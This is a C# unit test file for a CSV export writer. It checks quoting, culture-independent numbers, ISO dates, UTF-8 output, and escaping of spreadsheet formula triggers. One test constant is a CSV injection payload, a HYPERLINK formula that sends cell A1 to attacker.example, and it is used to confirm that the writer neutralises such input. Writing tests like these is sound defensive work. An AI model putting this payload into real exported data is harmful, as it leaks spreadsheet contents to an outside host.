using System.Globalization;
using System.Text;
using Microsoft.VisualBasic.FileIO;
using TrendBoard.Core.Export;

namespace TrendBoard.Core.Tests.Export;

public sealed class CsvExportWriterTests
{
    // A real title from the bundled Hugging Face Daily Papers file of 2025-06-17, whitespace collapsed.
    private const string TitleWithCommaAndQuotes =
        "Wait, We Don't Need to \"Wait\"! Removing Thinking Tokens Improves Reasoning Efficiency";

    // The classic CSV injection payload: a spreadsheet that runs it sends cell A1 to another host.
    private const string HyperlinkFormula =
        "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Open the paper\")";

    [Fact]
    public async Task HeaderRowListsColumnNames()
    {
        var table = new ExportTable(["bin_start", "topic_id"], []);

        var csv = await WriteAsync(table);

        Assert.Equal("bin_start,topic_id\r\n", csv);
    }

    [Fact]
    public async Task FieldsWithCommaQuoteOrNewlineRoundTrip()
    {
        var texts = new[]
        {
            TitleWithCommaAndQuotes,
            "line one\nline two",
            "carriage\r\nreturn",
            "plain",
            "\"quoted at both ends\"",
        };
        var table = new ExportTable(["text"], texts.Select(text => (IReadOnlyList<object?>)[text]).ToList());

        var csv = await WriteAsync(table);
        var parsed = Parse(csv);

        Assert.Equal(texts.Length + 1, parsed.Count);
        for (var i = 0; i < texts.Length; i++)
        {
            Assert.Equal(texts[i], Assert.Single(parsed[i + 1]));
        }
    }

    [Fact]
    public async Task QuotedFieldDoublesInnerQuotes()
    {
        var table = new ExportTable(["title"], [[TitleWithCommaAndQuotes]]);

        var csv = await WriteAsync(table);

        Assert.Equal(
            "title\r\n\"Wait, We Don't Need to \"\"Wait\"\"! Removing Thinking Tokens Improves Reasoning Efficiency\"\r\n",
            csv);
    }

    [Theory]
    [InlineData(HyperlinkFormula)]
    [InlineData("+1+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public async Task FormulaTriggerGetsLeadingApostrophe(string hostile)
    {
        var table = new ExportTable(["topic_label"], [[hostile]]);

        var csv = await WriteAsync(table);
        var field = Assert.Single(Parse(csv)[1]);

        Assert.Equal("'" + hostile, field);
    }

    [Fact]
    public async Task HyperlinkFormulaIsQuotedAfterEscaping()
    {
        var table = new ExportTable(["topic_label"], [[HyperlinkFormula]]);

        var csv = await WriteAsync(table);

        // The field contains commas and quotes, so it is quoted, and the apostrophe sits inside the quotes.
        Assert.StartsWith("topic_label\r\n\"'=HYPERLINK(\"\"http://attacker.example/", csv, StringComparison.Ordinal);
    }

    [Fact]
    public async Task TextWithoutTriggerIsUnchanged()
    {
        var table = new ExportTable(["a", "b", "c"], [["x=1", " =1+1", "a-b"]]);

        var csv = await WriteAsync(table);

        Assert.Equal("a,b,c\r\nx=1, =1+1,a-b\r\n", csv);
    }

    [Fact]
    public async Task NegativeNumbersAreNotEscaped()
    {
        var table = new ExportTable(["topic_id", "npmi", "total"], [[-1, -0.25, -3L]]);

        var csv = await WriteAsync(table);

        Assert.Equal("topic_id,npmi,total\r\n-1,-0.25,-3\r\n", csv);
    }

    [Fact]
    public async Task NegativeNumberGivenAsTextIsEscaped()
    {
        var table = new ExportTable(["label"], [["-1"]]);

        var csv = await WriteAsync(table);

        Assert.Equal("label\r\n'-1\r\n", csv);
    }

    [Fact]
    public async Task NumbersIgnoreCurrentCulture()
    {
        var commaCulture = (CultureInfo)CultureInfo.InvariantCulture.Clone();
        commaCulture.NumberFormat.NumberDecimalSeparator = ",";
        commaCulture.NumberFormat.NumberGroupSeparator = ".";
        commaCulture.NumberFormat.NegativeSign = "\u2212";
        var table = new ExportTable(["share", "sum", "npmi"], [[1234.5, 1234567L, -0.125]]);
        var previous = CultureInfo.CurrentCulture;

        string csv;
        try
        {
            CultureInfo.CurrentCulture = commaCulture;
            csv = await WriteAsync(table);
        }
        finally
        {
            CultureInfo.CurrentCulture = previous;
        }

        Assert.Equal("share,sum,npmi\r\n1234.5,1234567,-0.125\r\n", csv);
    }

    [Fact]
    public async Task DoublesRoundTripExactly()
    {
        var values = new[] { 0.1, 1.0 / 3.0, 2.5e-7, 123456789.125 };
        var table = new ExportTable(["value"], values.Select(value => (IReadOnlyList<object?>)[value]).ToList());

        var parsed = Parse(await WriteAsync(table));

        for (var i = 0; i < values.Length; i++)
        {
            Assert.Equal(values[i], double.Parse(parsed[i + 1][0], CultureInfo.InvariantCulture));
        }
    }

    [Fact]
    public async Task DatesAndBooleansUseIsoAndLowerCase()
    {
        var table = new ExportTable(
            ["bin_start", "partial", "observed_at"],
            [[new DateOnly(2024, 6, 3), true, new DateTimeOffset(2024, 6, 3, 9, 30, 0, TimeSpan.FromHours(2))]]);

        var csv = await WriteAsync(table);

        Assert.Equal("bin_start,partial,observed_at\r\n2024-06-03,true,2024-06-03T07:30:00Z\r\n", csv);
    }

    [Fact]
    public async Task NullAndNonFiniteAreEmpty()
    {
        var table = new ExportTable(["a", "b", "c"], [[null, double.NaN, double.PositiveInfinity]]);

        var csv = await WriteAsync(table);

        Assert.Equal("a,b,c\r\n,,\r\n", csv);
    }

    [Fact]
    public async Task UnsupportedCellTypeNamesColumn()
    {
        var table = new ExportTable(["bin_start", "weight"], [[new DateOnly(2024, 6, 3), 1.5m]]);

        var error = await Assert.ThrowsAsync<ArgumentException>(() => WriteAsync(table));

        Assert.Contains("'weight'", error.Message, StringComparison.Ordinal);
        Assert.Contains("Decimal", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task StreamOutputIsUtf8WithoutByteOrderMark()
    {
        var table = new ExportTable(["topic_label"], [["Bayesian Ökonometrie – 深度学习"]]);
        using var stream = new MemoryStream();

        await CsvExportWriter.WriteAsync(table, stream, CancellationToken.None);
        var bytes = stream.ToArray();

        Assert.NotEqual(0xEF, bytes[0]);
        Assert.Equal("topic_label\r\nBayesian Ökonometrie – 深度学习\r\n", Encoding.UTF8.GetString(bytes));
    }

    private static async Task<string> WriteAsync(ExportTable table)
    {
        using var writer = new StringWriter(CultureInfo.InvariantCulture);
        await CsvExportWriter.WriteAsync(table, writer, CancellationToken.None);
        return writer.ToString();
    }

    /// <summary>Reads CSV with the framework's own RFC 4180 parser, independent of the writer under test.</summary>
    private static List<string[]> Parse(string csv)
    {
        using var parser = new TextFieldParser(new StringReader(csv))
        {
            TextFieldType = FieldType.Delimited,
            HasFieldsEnclosedInQuotes = true,
            TrimWhiteSpace = false,
        };
        parser.SetDelimiters(",");

        var rows = new List<string[]>();
        while (!parser.EndOfData)
        {
            rows.Add(parser.ReadFields() ?? []);
        }

        return rows;
    }
}
